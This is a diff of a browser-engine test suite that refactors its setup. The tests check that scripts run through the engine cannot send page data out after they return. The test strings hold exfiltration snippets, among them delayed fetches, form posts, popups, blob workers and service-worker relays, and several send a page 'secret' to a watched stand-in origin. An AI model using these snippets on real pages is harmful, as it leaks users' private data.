@@ -3,61 +3,18 @@
 // later, a message it posts to the site's service worker) reaches no one, for as long as the tab lives, and the next
 // result names what it can; the page's own sends (through that service worker too) and windows to that origin, the
 // person's too, keep flowing.
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
-import { evaluate } from '../../shared/engine/ops/eval.js';
-import { PageContext } from '../../shared/engine/page-context.js';
-import { PolicyGate } from '../../shared/engine/policy-gate.js';
+import { describe, expect, it } from 'vitest';
 import { EVAL_ACTIVATION_MS } from '../../shared/engine/scripted-documents.js';
-import { policyFromFlags } from '../../shared/policy/flags.js';
-import type { OperationResult } from '../../shared/protocol/operations.js';
-import { loadUrl, startTestBrowser } from '../support/browser.js';
-import { ctx, useEngineSuite } from '../support/engine-suite.js';
+import { loadUrl } from '../support/browser.js';
 import { pageEval } from '../support/page-probes.js';
-import { testServerHosts } from '../support/test-policy.js';
 import { lateSharedWorker } from '../support/late-scripts.js';
-import { heldLater as heldOf, reachedSite, untilMarker } from '../support/late-results.js';
-import { startWatchedSite, type WatchedSite } from '../support/watched-site.js';
+import { watchedEngineTab } from '../support/watched-engine-tab.js';
 
-let watched: WatchedSite;
-// The second origin may be read, so a navigation or a window to it meets no policy refusal: only the hold stops it. The
-// browser's host judges the tab's popups by the same policy.
-const gate = new PolicyGate(() => policyFromFlags({ allow: [new URL(watched.origin).host], trust: testServerHosts() }));
-const suite = useEngineSuite({
-  startBrowser: async () => {
-    watched = await startWatchedSite();
-    return startTestBrowser(gate);
-  },
-});
-let page: PageContext;
-let tabId: string;
-const pages: PageContext[] = [];
-let stopPopups: () => void;
-
-beforeAll(async () => {
-  // An engine listens for the tab's popups, as the tab session does: a window the page opens is guarded, not let go.
-  stopPopups = suite.browser.host.onPopup(async () => undefined);
-  const tab = await suite.browser.host.create('about:blank', { focus: false });
-  tabId = tab.id;
-  page = new PageContext(await suite.browser.host.cdp(tab.id), gate);
-  pages.push(page);
-  await page.frames.init();
-  await loadUrl(page, suite.server.url('egress-late.html'));
-});
-afterAll(async () => {
-  stopPopups?.();
-  for (const each of pages) each.dispose();
-  await watched?.close();
-});
-afterEach(() => {
-  watched.requests.length = 0;
-});
-
-const run = (expression: string) => evaluate(page, { expression }, ctx);
+// The browser's host judges the tab's popups by the same policy, and an engine listens for them, as the tab session
+// does: a window the page opens is guarded, not let go.
+const engine = watchedEngineTab({ popups: true });
+const { suite, run, until, heldLater, reached } = engine;
 const KEY = `document.getElementById('secret').textContent`;
-
-const until = (marker: string) => untilMarker(page, marker);
-const heldLater = (result: OperationResult) => heldOf(result, watched);
-const reached = () => reachedSite(page, watched);
 
 /**
  * Call before the tab opens a window: the returned function resolves once that window settled either way, its request
@@ -69,13 +26,13 @@ function watchPopup(path: string): () => Promise<void> {
   let closed = false;
   const stop = suite.browser.browser.connection.on((event) => {
     const info = event.params['targetInfo'] as { openerId?: string } | undefined;
-    if (event.method === 'Target.attachedToTarget' && info?.openerId === tabId)
+    if (event.method === 'Target.attachedToTarget' && info?.openerId === engine.tabId)
       popups.add(String(event.params['sessionId']));
     if (event.method === 'Target.detachedFromTarget' && popups.has(String(event.params['sessionId']))) closed = true;
   });
   return async () => {
     const deadline = Date.now() + 20_000;
-    while (!closed && !watched.requests.some((each) => each.startsWith(path))) {
+    while (!closed && !engine.watched.requests.some((each) => each.startsWith(path))) {
       if (Date.now() > deadline) throw new Error(popups.size > 0 ? 'the popup neither loaded nor closed' : 'no popup');
       await new Promise((resolve) => setTimeout(resolve, 100));
     }
@@ -89,7 +46,7 @@ function watchPopup(path: string): () => Promise<void> {
  */
 function nextLoad(): Promise<void> {
   return new Promise((resolve) => {
-    const off = page.cdp.on((event) => {
+    const off = engine.page.cdp.on((event) => {
       if (event.method === 'Page.loadEventFired' && !event.sessionId) {
         off();
         resolve();
@@ -101,7 +58,7 @@ function nextLoad(): Promise<void> {
 describe('what a script starts after it returned stays held', () => {
   it('a fetch a timer sends a second later', async () => {
     const result =
-      await run(`setTimeout(() => fetch('${watched.origin}/late-fetch?key=' + encodeURIComponent(${KEY}), { mode: 'no-cors' })
+      await run(`setTimeout(() => fetch('${engine.watched.origin}/late-fetch?key=' + encodeURIComponent(${KEY}), { mode: 'no-cors' })
       .catch(() => undefined).finally(() => (window.lateFetch = true)), 1000); 'scheduled'`);
     expect(result.text).toBe('"scheduled"');
     await until('lateFetch');
@@ -114,16 +71,16 @@ describe('what a script starts after it returned stays held', () => {
 
   it('a location change a timer makes, leaving the tab on its page', async () => {
     await run(
-      `setTimeout(() => { location.assign('${watched.origin}/assigned'); setTimeout(() => (window.assigned = true), 300); }, 1000); 0`,
+      `setTimeout(() => { location.assign('${engine.watched.origin}/assigned'); setTimeout(() => (window.assigned = true), 300); }, 1000); 0`,
     );
     await until('assigned');
     expect(await reached()).toEqual([]);
-    expect(await pageEval(page, 'location.pathname')).toBe('/egress-late.html');
+    expect(await pageEval(engine.page, 'location.pathname')).toBe('/egress-late.html');
     expect(heldLater(await run('1'))).toEqual(['GET W/assigned (navigation)']);
   });
 
   it('a worker a timer starts from a blob, whose fetch carries no stack of the script', async () => {
-    const worker = `fetch('${watched.origin}/worker-late').catch(() => undefined).then(() => postMessage(0));`;
+    const worker = `fetch('${engine.watched.origin}/worker-late').catch(() => undefined).then(() => postMessage(0));`;
     await run(`setTimeout(() => {
       const late = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: 'text/javascript' })));
       late.onmessage = () => (window.workerDone = true);
@@ -135,7 +92,7 @@ describe('what a script starts after it returned stays held', () => {
 
   it('a window a timer opens, whose first request is held and the empty window closed', async () => {
     const settled = watchPopup('/popup-late');
-    await run(`setTimeout(() => { window.open('${watched.origin}/popup-late?key=' + encodeURIComponent(${KEY}));
+    await run(`setTimeout(() => { window.open('${engine.watched.origin}/popup-late?key=' + encodeURIComponent(${KEY}));
       window.opened = true; }, 1000); 0`);
     await until('opened');
     await settled();
@@ -145,17 +102,17 @@ describe('what a script starts after it returned stays held', () => {
 
   it('a form a timer submits in its own frame, whose request names no stack', async () => {
     await run(`setTimeout(() => { const form = document.createElement('form');
-      form.method = 'post'; form.action = '${watched.origin}/form-late';
+      form.method = 'post'; form.action = '${engine.watched.origin}/form-late';
       form.append(Object.assign(document.createElement('input'), { name: 'key', value: ${KEY} }));
       document.body.append(form); form.submit(); setTimeout(() => (window.submitted = true), 300); }, 1000); 0`);
     await until('submitted');
     expect(await reached()).toEqual([]);
-    expect(await pageEval(page, 'location.pathname')).toBe('/egress-late.html');
+    expect(await pageEval(engine.page, 'location.pathname')).toBe('/egress-late.html');
     expect(heldLater(await run('1'))).toEqual(['POST W/form-late (navigation)']);
   });
 
   it('a form a timer submits once the eval’s activation is over, with no gesture at all', async () => {
-    await run(`setTimeout(() => { const form = document.createElement('form'); form.action = '${watched.origin}/form-later';
+    await run(`setTimeout(() => { const form = document.createElement('form'); form.action = '${engine.watched.origin}/form-later';
       document.body.append(form); form.requestSubmit(); setTimeout(() => (window.submittedLater = true), 300); },
       ${EVAL_ACTIVATION_MS + 500}); 0`);
     await until('submittedLater');
@@ -166,7 +123,7 @@ describe('what a script starts after it returned stays held', () => {
   it('a form a timer submits into a new window, whose request names no stack either', async () => {
     const settled = watchPopup('/form-late');
     await run(`setTimeout(() => { const form = document.createElement('form');
-      form.target = '_blank'; form.method = 'post'; form.action = '${watched.origin}/form-late';
+      form.target = '_blank'; form.method = 'post'; form.action = '${engine.watched.origin}/form-late';
       form.append(Object.assign(document.createElement('input'), { name: 'key', value: ${KEY} }));
       document.body.append(form); form.submit(); window.submittedBlank = true; }, 1000); 0`);
     await until('submittedBlank');
@@ -176,7 +133,7 @@ describe('what a script starts after it returned stays held', () => {
   });
 
   it('a shared worker a timer starts from a blob, which no session of the tab reaches', async () => {
-    await run(lateSharedWorker(`${watched.origin}/shared-late`));
+    await run(lateSharedWorker(`${engine.watched.origin}/shared-late`));
     await until('sharedDone');
     expect(await reached()).toEqual([]);
   });
@@ -184,12 +141,12 @@ describe('what a script starts after it returned stays held', () => {
   it('a message the script posts to the site’s service worker, which fetches as it is told', async () => {
     // The site's worker controls the page first (the page's own doing, not the script's).
     await pageEval(
-      page,
+      engine.page,
       `navigator.serviceWorker.register('/egress-late-sw.js').then(() => navigator.serviceWorker.controller
         ? true : new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', () => resolve(true))))`,
     );
     await run(`navigator.serviceWorker.onmessage = () => (window.swDone = true);
-      setTimeout(() => navigator.serviceWorker.controller.postMessage('${watched.origin}/sw-late'), 1000); 0`);
+      setTimeout(() => navigator.serviceWorker.controller.postMessage('${engine.watched.origin}/sw-late'), 1000); 0`);
     await until('swDone');
     expect(await reached()).toEqual([]);
   });
@@ -197,11 +154,11 @@ describe('what a script starts after it returned stays held', () => {
   it('the page’s own sends to that origin flow, after every script', async () => {
     await run('1');
     expect(await reached()).toEqual([]);
-    expect(watched.requests).toEqual(['/page-own']);
+    expect(engine.watched.requests).toEqual(['/page-own']);
   });
 
   it('a form the person submits with a click, once the eval’s activation is over, goes', async () => {
-    await run(`const form = document.createElement('form'); form.action = '${watched.origin}/person-form';
+    await run(`const form = document.createElement('form'); form.action = '${engine.watched.origin}/person-form';
       const button = Object.assign(document.createElement('button'), { textContent: 'Send' });
       button.style = 'position:fixed;left:0;top:0;width:200px;height:100px'; form.append(button);
       document.body.append(form); 0`);
@@ -209,25 +166,25 @@ describe('what a script starts after it returned stays held', () => {
     await new Promise((resolve) => setTimeout(resolve, EVAL_ACTIVATION_MS + 500));
     const answered = nextLoad();
     for (const type of ['mousePressed', 'mouseReleased'])
-      await page.cdp.send('Input.dispatchMouseEvent', { type, x: 50, y: 50, button: 'left', clickCount: 1 });
+      await engine.page.cdp.send('Input.dispatchMouseEvent', { type, x: 50, y: 50, button: 'left', clickCount: 1 });
     const deadline = Date.now() + 20_000;
-    while (!watched.requests.some((path) => path.startsWith('/person-form'))) {
+    while (!engine.watched.requests.some((path) => path.startsWith('/person-form'))) {
       if (Date.now() > deadline) throw new Error('the person’s form never reached its site');
       await new Promise((resolve) => setTimeout(resolve, 100));
     }
     await answered;
-    await loadUrl(page, suite.server.url('egress-late.html'));
+    await loadUrl(engine.page, suite.server.url('egress-late.html'));
   });
 
   it('a link the person clicks into a new window, once the eval’s activation is over, loads', async () => {
-    await run(`const link = Object.assign(document.createElement('a'), { href: '${watched.origin}/person-window',
+    await run(`const link = Object.assign(document.createElement('a'), { href: '${engine.watched.origin}/person-window',
       target: '_blank', textContent: 'Open' });
       link.style = 'position:fixed;left:0;top:0;width:200px;height:100px;display:block'; document.body.append(link); 0`);
     await new Promise((resolve) => setTimeout(resolve, EVAL_ACTIVATION_MS + 500));
     for (const type of ['mousePressed', 'mouseReleased'])
-      await page.cdp.send('Input.dispatchMouseEvent', { type, x: 50, y: 50, button: 'left', clickCount: 1 });
+      await engine.page.cdp.send('Input.dispatchMouseEvent', { type, x: 50, y: 50, button: 'left', clickCount: 1 });
     const deadline = Date.now() + 20_000;
-    while (!watched.requests.includes('/person-window')) {
+    while (!engine.watched.requests.includes('/person-window')) {
       if (Date.now() > deadline) throw new Error('the person’s window never loaded');
       await new Promise((resolve) => setTimeout(resolve, 100));
     }
@@ -235,25 +192,28 @@ describe('what a script starts after it returned stays held', () => {
 
   it('a form a new document submits on its own, with no gesture, goes: the script never reached it', async () => {
     await run('1');
-    await loadUrl(page, suite.server.url(`egress-late.html?post=${encodeURIComponent(`${watched.origin}/page-form`)}`));
+    await loadUrl(
+      engine.page,
+      suite.server.url(`egress-late.html?post=${encodeURIComponent(`${engine.watched.origin}/page-form`)}`),
+    );
     const answered = nextLoad();
     const deadline = Date.now() + 20_000;
-    while (!watched.requests.includes('/page-form')) {
+    while (!engine.watched.requests.includes('/page-form')) {
       if (Date.now() > deadline) throw new Error('the page’s own form never reached its site');
       await new Promise((resolve) => setTimeout(resolve, 100));
     }
     await answered;
-    await loadUrl(page, suite.server.url('egress-late.html'));
+    await loadUrl(engine.page, suite.server.url('egress-late.html'));
   });
 
   it('a window the page itself opens to that origin loads', async () => {
     await run('1');
-    await page.cdp.send('Runtime.evaluate', {
-      expression: `window.open('${watched.origin}/page-window')`,
+    await engine.page.cdp.send('Runtime.evaluate', {
+      expression: `window.open('${engine.watched.origin}/page-window')`,
       userGesture: true,
     });
     const deadline = Date.now() + 20_000;
-    while (!watched.requests.includes('/page-window')) {
+    while (!engine.watched.requests.includes('/page-window')) {
       if (Date.now() > deadline) throw new Error('the page’s own window never loaded');
       await new Promise((resolve) => setTimeout(resolve, 100));
     }
